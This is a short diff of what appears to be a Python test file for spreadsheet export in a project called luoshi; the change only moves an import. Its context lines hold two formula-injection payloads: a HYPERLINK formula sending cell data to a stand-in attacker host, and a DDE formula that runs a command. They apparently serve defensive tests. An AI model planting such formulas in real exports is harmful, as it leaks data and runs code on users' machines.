@@ -14,9 +14,9 @@ from openpyxl import load_workbook
 from luoshi.bulletins import actions as bulletin_actions
 from luoshi.bulletins.compose import parse_period
 from luoshi.bulletins.export import to_xlsx
+from luoshi.commitments.actions import commitment_xlsx, generate_commitment
 from luoshi.documents.excel import export_task_table
 from luoshi.plans.models import Task
-from luoshi.supervision.commitments import commitment_xlsx, generate_commitment
 
 LINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
 COMMAND = "=cmd|' /C calc'!A0"
